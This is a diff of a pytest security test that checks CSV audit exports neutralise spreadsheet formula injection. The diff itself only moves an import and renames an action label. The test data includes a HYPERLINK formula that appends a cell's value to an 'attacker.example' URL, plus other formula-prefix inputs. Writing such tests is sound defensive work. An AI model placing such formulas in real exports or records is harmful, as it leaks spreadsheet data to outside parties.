@@ -7,7 +7,7 @@ import pytest
 
 from kivaportal.common.csv_export import csv_text, neutralise
 from kivaportal.lending.models import Loan
-from kivaportal.review.services import audit_record
+from kivaportal.workflow.transitions import audit_record
 from tests.security.conftest import user
 
 FORMULAS = ['=HYPERLINK("https://x.example","click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
@@ -29,7 +29,7 @@ def test_audit_export_neutralises_a_comment_and_a_record_label(as_user, partner_
     audit_record(
         record=loan,
         actor=user("ana.preparer"),
-        action="changes_requested",
+        action="review.changes_requested",
         comment='=HYPERLINK("https://attacker.example/?"&A1,"Open")',
     )
 
